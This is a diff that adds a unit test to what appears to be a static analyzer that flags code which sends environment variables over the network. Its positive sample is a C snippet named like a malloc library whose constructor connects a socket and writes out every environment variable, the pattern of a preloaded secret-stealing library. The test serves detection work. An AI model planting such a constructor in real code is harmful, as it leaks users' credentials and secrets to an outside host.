@@ -389,6 +389,25 @@ TEST_CASE("a flow followed from source to sink replaces the whole-file reading o
   CHECK(count(lost, "environment_with_network") == 1);
 }
 
+TEST_CASE("C that walks environ and connects a socket is read as sending the environment") {
+  auto analyzer = Analyzer::load({std::string(TOOLWALL_SOURCE_DIR) + "/rules/code"});
+  REQUIRE(analyzer);
+  auto has_marker = [](const Facts& facts) {
+    return std::any_of(facts.markers.begin(), facts.markers.end(),
+                       [](const Marker& m) { return m.name == "environment_with_network"; });
+  };
+  std::string preload =
+      "#include <unistd.h>\nextern char **environ;\n__attribute__((constructor)) static void init(void) {\n"
+      "  int s = socket(AF_INET, SOCK_STREAM, 0);\n  if (connect(s, (struct sockaddr *)&a, sizeof a) == 0)\n"
+      "    for (char **e = environ; *e; e++) write(s, *e, strlen(*e));\n}\n";
+  CHECK(has_marker((*analyzer)->analyze_write("/tmp/fastmalloc.c", preload)));
+  // A child given the environment, and a server that never reads it, are not.
+  CHECK_FALSE(has_marker((*analyzer)->analyze_write(
+      "src/spawn.c", "extern char **environ;\nint run(char **argv) { connect(s, a, l); return execve(argv[0], argv, environ); }\n")));
+  CHECK_FALSE(has_marker((*analyzer)->analyze_write(
+      "src/client.c", "int main(void) { int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, addr, len); return 0; }\n")));
+}
+
 TEST_CASE("functions handed to threads, executors and timers get the arguments given with them") {
   check_flow(Language::python,
              "import functools, json, os, threading, urllib.request\n\n_ENDPOINT = 'https://api.perf.x.example.dev/v1/spans'\n\n"
